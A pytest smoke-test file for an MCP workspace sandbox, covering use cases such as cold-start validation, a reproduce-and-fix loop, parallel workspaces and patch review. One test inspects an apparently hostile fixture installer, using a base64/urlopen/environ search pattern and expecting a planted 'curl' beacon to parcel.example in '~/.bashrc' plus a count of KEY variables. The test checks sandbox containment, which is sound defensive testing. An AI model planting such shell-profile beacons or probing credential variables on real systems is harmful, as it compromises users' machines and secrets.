"""The five use cases of docs/use-cases, end to end as a model plays them: an MCP client, real guests, own fixtures.

`make smoke-use-cases` runs them all, `make smoke-use-cases USE_CASE=NAME` one.
"""

from __future__ import annotations

import shutil
from collections.abc import Callable, Iterator
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path
from typing import Any

import pytest

pytestmark = pytest.mark.guest

FIXTURES = Path(__file__).resolve().parents[2] / "examples" / "use-cases"
MENDED = """\
--- a/calc.py
+++ b/calc.py
@@ -6,4 +6,4 @@
     if not prices:
         raise ValueError("no prices")
-    return sum(prices) // len(prices)
+    return (2 * sum(prices) + len(prices)) // (2 * len(prices))
"""
WORSE = """\
--- a/calc.py
+++ b/calc.py
@@ -6,4 +6,4 @@
     if not prices:
         raise ValueError("no prices")
-    return sum(prices) // len(prices)
+    return round(sum(prices) / len(prices))
"""
HIDDEN_TEST = """\
from calc import average

assert average([1, 2]) == 2
assert average([1, 1, 3, 5]) == 3, "a half goes up, also from an even number"
"""
WAYS = {
    "set": "def unique(lines):\n    seen = set()\n    return [s for s in lines if not (s in seen or seen.add(s))]\n",
    "dict": "def unique(lines):\n    return dict.fromkeys(lines)\n",
    "sorted": "def unique(lines):\n    return sorted(set(lines))\n",
}


class Model:
    """Calls tools, as a model through its chat host."""

    def __init__(self, surface: Any) -> None:
        self._surface = surface

    def __call__(self, tool: str, workspace: str | None = None, **arguments: Any) -> dict[str, Any]:
        named = {} if workspace is None else {"workspace_id": workspace}
        answer: dict[str, Any] = self._surface.call(tool, {**named, **arguments})
        return answer

    def create(self, fixture: Path, **arguments: Any) -> str:
        made = self("workspace_create", environment="debian:12-build", seed_path=str(fixture), **arguments)
        return str(made["workspace_id"])

    def run(self, workspace: str, command: str, **arguments: Any) -> dict[str, Any]:
        return self("workspace_exec", workspace, command=command, timeout_seconds=120, **arguments)


@pytest.fixture
def core(environ: dict[str, str], serving: Callable[..., Any]) -> Iterator[Model]:
    surface = serving(environ, "auto", "--profile", "workspace-core")
    yield Model(surface)
    surface.close()


@pytest.fixture
def full(environ: dict[str, str], serving: Callable[..., Any]) -> Iterator[Model]:
    surface = serving(environ, "auto", "--profile", "workspace-full")
    yield Model(surface)
    surface.close()


@pytest.fixture
def project(request: pytest.FixtureRequest, tmp_path: Path) -> Path:
    """A copy of the use case's own project."""
    return Path(shutil.copytree(FIXTURES / request.param, tmp_path / request.param))


@pytest.mark.parametrize("project", ["notes"], indirect=True)
def test_cold_start_validation(full: Model, project: Path, tmp_path: Path) -> None:
    workspace = full.create(project, name="cold-start")
    assert "make serve" in full("workspace_file_read", workspace, path="README.md")["content"]
    tested = full.run(workspace, "make test")
    assert tested["exit_code"] == 0
    assert "Ran 2 tests" in tested["stderr"]
    served = full(
        "service_start",
        workspace,
        service_name="web",
        command="make serve",
        readiness={"http": "http://127.0.0.1:8000/health"},
    )
    assert served["state"] == "ready"
    fetch = "python3 -c 'import urllib.request as u; print(u.urlopen(\"http://127.0.0.1:8000/notes\").read())'"
    assert "water the plants" in full.run(workspace, fetch)["stdout"]
    made = {entry["path"] for entry in full("workspace_diff", workspace)["entries"]}
    assert made
    assert all("__pycache__" in path for path in made), "setting up writes nothing but caches"
    report = full("workspace_summary", workspace)
    assert [service["service_name"] for service in report["services"]["now"]] == ["web"]
    full("service_stop", workspace, service_name="web")
    full("workspace_file_write", workspace, path="REPORT.md", text="works from cold: make test, make serve\n")
    full("workspace_export", workspace, path="REPORT.md", output=str(tmp_path / "REPORT.md"))
    assert "works from cold" in (tmp_path / "REPORT.md").read_text()
    full("workspace_delete", workspace)


@pytest.mark.parametrize("project", ["calc"], indirect=True)
def test_repro_fix_loop(core: Model, project: Path) -> None:
    workspace = core.create(project, name="repro")
    failed = core.run(workspace, "python3 -m unittest")
    assert failed["exit_code"] == 1
    assert "test_a_half_goes_up" in failed["stderr"]
    assert "//" in core("workspace_file_read", workspace, path="calc.py")["content"]
    core("workspace_patch_apply", workspace, patch=MENDED)
    assert core.run(workspace, "python3 -m unittest")["exit_code"] == 0
    patch = core("workspace_diff", workspace)["patch"]
    # The proof: from the baseline, with the patch that goes home and nothing else.
    core("workspace_reset", workspace)
    assert core.run(workspace, "python3 -m unittest")["exit_code"] == 1
    core("workspace_patch_apply", workspace, patch=patch)
    assert core.run(workspace, "python3 -m unittest")["exit_code"] == 0
    core("workspace_delete", workspace)
    assert "+    return (2 * sum" in patch


@pytest.mark.parametrize("project", ["unique"], indirect=True)
def test_parallel_workspaces(core: Model, project: Path) -> None:
    def attempt(way: str) -> tuple[str, dict[str, Any]]:
        workspace = core.create(project, name=f"try-{way}", labels={"way": way})
        core("workspace_file_write", workspace, path="unique.py", text=WAYS[way])
        return workspace, core.run(workspace, "python3 measure.py")

    with ThreadPoolExecutor(len(WAYS)) as pool:
        tried = dict(zip(WAYS, pool.map(attempt, WAYS), strict=True))
    assert tried["sorted"][1]["exit_code"] == 1
    assert "not the first of each" in tried["sorted"][1]["stderr"]
    compared = {way: int(run["stdout"]) for way, (_, run) in tried.items() if run["exit_code"] == 0}
    assert set(compared) == {"set", "dict"}
    assert max(compared.values()) < 400_600
    assert {f"try-{way}" for way in WAYS} <= {one.get("name") for one in core("workspace_list")["workspaces"]}
    patches = {way: core("workspace_diff", workspace)["patch"] for way, (workspace, _) in tried.items()}
    assert "seen.add" in patches["set"]
    assert "seen.add" not in patches["dict"], "each sees its own work only"
    for workspace, _ in tried.values():
        core("workspace_delete", workspace)


@pytest.mark.parametrize("project", ["parcel"], indirect=True)
def test_untrusted_inspection(core: Model, project: Path) -> None:
    workspace = core.create(project, name="parcel")
    found = core("workspace_file_search", workspace, pattern="base64|urlopen|environ")
    assert {match["path"].removeprefix("/workspace/") for match in found["matches"]} == {"install.py"}
    ran = core.run(workspace, "python3 install.py; tail -n 1 ~/.bashrc; env | grep -c KEY")
    assert "could not say so" in ran["stdout"]
    assert "curl -s http://parcel.example/beacon" in ran["stdout"]
    assert [entry["path"] for entry in core("workspace_diff", workspace)["entries"]] == ["parcel/version.py"]
    core("workspace_delete", workspace)


@pytest.mark.parametrize("project", ["calc"], indirect=True)
def test_review_eval(full: Model, project: Path, tmp_path: Path) -> None:
    workspace = full.create(project, name="review")
    full("workspace_file_write", workspace, path="/workspace/hidden.py", text=HIDDEN_TEST)
    full("snapshot_create", workspace, snapshot_name="before")
    marks = {}
    for name, patch in {"mended": MENDED, "worse": WORSE}.items():
        full("workspace_patch_apply", workspace, patch=patch)
        marks[name] = full.run(workspace, "python3 -m unittest && python3 hidden.py")["exit_code"]
        full("workspace_reset", workspace, snapshot="before")
    assert marks["mended"] == 0
    assert marks["worse"] != 0
    full("workspace_patch_apply", workspace, patch=MENDED)
    shell = full("shell_open", workspace)["shell_id"]
    full("shell_write", workspace, shell_id=shell, input="python3 hidden.py && echo passed $((40 + 2))")
    said = full("shell_read", workspace, shell_id=shell, plain=True, wait_for_idle_ms=2000)
    assert "passed 42" in said["output"]
    report = full("workspace_summary", workspace)
    assert report["changes"]["totals"]["modified"] == 1
    full("workspace_export", workspace, path="calc.py", output=str(tmp_path / "calc.py"))
    assert "2 * sum" in (tmp_path / "calc.py").read_text()
    full("workspace_delete", workspace)
